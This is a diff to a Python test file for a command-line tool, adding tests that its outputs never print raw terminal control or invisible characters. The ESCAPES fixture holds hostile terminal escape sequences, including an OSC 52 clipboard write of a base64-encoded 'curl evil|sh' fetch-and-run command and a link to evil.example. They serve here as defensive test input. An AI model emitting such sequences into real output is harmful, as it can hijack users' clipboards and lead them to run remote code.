@@ -7,6 +7,7 @@ a second. The small static cases live in tests/hostile/ (see test_loading.py).
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import subprocess
@@ -312,3 +313,70 @@ def test_an_editor_lock_link_is_ignored(run_cli: RunCli, tmp_path: Path) -> None
     assert run_cli("--data", str(data), "validate").stdout == "OK: 2 records in 2 files\n"
     result = run_cli("--data", str(data), "company", "acme", "--json")
     assert result.exit_code == 0, result.stderr
+
+
+# No raw control sequence in any output (reliability review 2: M4, L12) ----------------------
+
+ESCAPES = (
+    "\\e]0;PWNED-TITLE\\e\\\\\\e]52;c;Y3VybCBldmlsfHNo\\a\\e]8;;https://evil.example/\\a\\x9b2J"
+)
+INVISIBLE = "\u200b\u200d\u2060\ufeff\u00ad\u115f\u3164\u180e\u034f\u2028\u2029\U000e0041"
+RAW = ("\x1b", "\x07", "\x9b", *INVISIBLE)
+
+
+def _strategy_data(tmp_path: Path, name: str) -> Path:
+    organization = ORGANIZATION.format(description="A company.").replace(
+        "name: Acme", f'name: "Acme{name}"'
+    )
+    strategy = (
+        "strategy:\n  - {id: aim-one, group: aims, title: t, owner: acme, summary: s,"
+        " citations: [{source: article, excerpt: Acme}]}\n"
+    )
+    return _data_dir(tmp_path, organization + strategy)
+
+
+OUTPUTS = [
+    pytest.param(["strategy", "--no-pager"], ESCAPES, id="M4-strategy-title"),
+    pytest.param(["export", "--format", "csv"], ESCAPES, id="M4-export-csv"),
+    pytest.param(["export", "--format", "markdown"], ESCAPES, id="M4-export-markdown"),
+    pytest.param(["strategy", "--no-pager"], INVISIBLE, id="L12-strategy"),
+    pytest.param(["company", "--no-pager"], INVISIBLE, id="L12-company"),
+    pytest.param(["company", "acme", "--no-pager"], INVISIBLE, id="L12-profile"),
+    pytest.param(["company", "--json"], INVISIBLE, id="L12-json"),
+    pytest.param(["search", "acme", "--no-pager"], INVISIBLE, id="L12-search"),
+]
+
+
+@pytest.mark.parametrize(("args", "name"), OUTPUTS)
+def test_no_raw_control_or_invisible_character_is_printed(run_cli, tmp_path, args, name) -> None:
+    data = _strategy_data(tmp_path, name)
+    result = run_cli("--data", str(data), *args)
+    assert result.exit_code == 0, result.stderr
+    assert "Acme" in result.stdout
+    for char in RAW:
+        assert char not in result.stdout, (char, result.stdout[:500])
+    if args[-1] == "--json":
+        names = [record["name"] for record in json.loads(result.stdout)]
+        assert names == [f"Acme{INVISIBLE}"]  # the escapes read back as the same text
+
+
+def test_shell_completion_prints_no_raw_control(tmp_path: Path) -> None:
+    data = _strategy_data(tmp_path, ESCAPES)
+    result = subprocess.run(
+        [sys.executable, "-m", "softbank_kb"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={
+            "PATH": "/usr/bin:/bin",
+            "SBKB_NO_CACHE": "1",
+            "_SBKB_COMPLETE": "bash_complete",
+            "COMP_WORDS": f"sbkb --data {data} company ",
+            "COMP_CWORD": "4",
+        },
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    assert "Acme" in result.stdout  # M4: the candidate is there, escaped
+    for char in RAW:
+        assert char not in result.stdout
